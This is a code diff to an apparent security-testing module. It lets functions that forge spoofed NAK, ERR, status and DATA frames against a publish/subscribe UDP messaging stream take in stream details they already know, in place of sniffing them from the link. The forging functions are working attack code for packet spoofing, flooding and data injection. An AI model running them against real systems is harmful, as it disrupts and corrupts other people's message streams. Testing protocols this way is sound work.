@@ -315,10 +315,25 @@ def status_flood(control: str, stream_id: int, count: int, seconds: float,
             "received_bytes": received_bytes, "data_frames": data_frames}
 
 
+def _learned(sniffer: Sniffer, stream_id: int, learn_s: float,
+             known: dict[str, Any] | None) -> StreamSeen:
+    """What the attacker knows of ``stream_id``: ``known`` (an attacker told everything but a
+    key, as on an encrypted stream, whose frames the link does not show), else what the
+    link shows within ``learn_s``."""
+    if known is not None:
+        fields = {k: tuple(v) if isinstance(v, list) else v for k, v in known.items()}
+        return StreamSeen(stream_id, **fields)
+    return learn_stream(sniffer, stream_id, learn_s,
+                        until=lambda s: (s.session_id is not None and s.publisher is not None
+                                         and s.receiver is not None and s.term_id is not None))
+
+
 def forge_control(stream_id: int, kind: str, count: int, seconds: float,
                   spoof: bool = True, learn_s: float = 5.0,
-                  freeze_after_s: float = 0.0, interface: str | None = None) -> dict[str, Any]:
-    """Learn ``stream_id`` from the link, then send ``count`` forged control frames of
+                  freeze_after_s: float = 0.0, interface: str | None = None,
+                  known: dict[str, Any] | None = None) -> dict[str, Any]:
+    """Learn ``stream_id`` from the link (or take ``known``: :func:`_learned`), then send
+    ``count`` forged control frames of
     ``kind`` to its publisher over ``seconds``: ``nak`` (NAKs for the last term's start),
     ``err`` (an ERR naming the real receiver's id), ``rate`` (a NAK-strength signal at a
     full window), ``freeze`` (status messages that track the live position for
@@ -330,9 +345,7 @@ def forge_control(stream_id: int, kind: str, count: int, seconds: float,
     own.bind(("0.0.0.0", 0))
     receiver_id = random.getrandbits(63)
     try:
-        seen = learn_stream(sniffer, stream_id, learn_s,
-                            until=lambda s: (s.session_id is not None and s.publisher is not None
-                                             and s.receiver is not None and s.term_id is not None))
+        seen = _learned(sniffer, stream_id, learn_s, known)
         if seen.session_id is None or seen.publisher is None or seen.receiver is None:
             return {"learned": seen.to_json(), "sent": 0, "error": "stream not seen"}
         assert seen.term_id is not None
@@ -376,15 +389,16 @@ def forge_control(stream_id: int, kind: str, count: int, seconds: float,
 
 
 def forge_data(stream_id: int, count: int, seconds: float, learn_s: float = 5.0,
-               interface: str | None = None) -> dict[str, Any]:
-    """Learn ``stream_id`` from the link, then send ``count`` DATA frames spoofed from its
-    publisher's address to its subscriber, each just ahead of the live position (so that
-    it lands before the real one would), with a payload that says it is forged."""
+               interface: str | None = None,
+               known: dict[str, Any] | None = None) -> dict[str, Any]:
+    """Learn ``stream_id`` from the link (or take ``known``: :func:`_learned`), then send
+    ``count`` DATA frames spoofed from its publisher's address to its subscriber, each just
+    ahead of the live position (so that it lands before the real one would), with a payload
+    that says it is forged."""
     sniffer = Sniffer(interface)
     raw = RawSender()
     try:
-        seen = learn_stream(sniffer, stream_id, learn_s,
-                            until=lambda s: s.publisher is not None and s.term_id is not None)
+        seen = _learned(sniffer, stream_id, learn_s, known)
         if seen.publisher is None or seen.subscriber is None or seen.session_id is None:
             return {"learned": seen.to_json(), "sent": 0, "error": "stream not seen"}
         sent = 0
